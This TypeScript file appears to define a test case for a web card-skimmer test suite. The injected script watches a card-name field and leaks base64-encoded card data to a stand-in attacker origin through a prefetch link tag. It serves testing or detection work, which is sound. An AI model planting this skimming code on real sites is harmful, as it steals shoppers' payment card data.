import { holds, js, skimmer } from '../behaviour.ts';
import { base64, query } from '../site/arrivals.ts';
import { withCard } from '../snippets.ts';

export default skimmer({
  id: 'link-prefetch',
  why: 'A hint to fetch the next page ahead: the address is the card.',
  covers: ['hard: unusual channel', 'reading: change and keys'],
  base: 'direct',
  install: (site) =>
    site.append(
      withCard(js`
  document.getElementById('cc-name').addEventListener('change', function () {
    var link = document.createElement('link');
    link.rel = 'prefetch';
    link.href = '${site.origins.evil}/page?d=' + encodeURIComponent(btoa(card()));
    document.head.append(link);
  });`),
    ),
  proof: holds((arrived) => query(arrived, 'd').map(base64)),
});
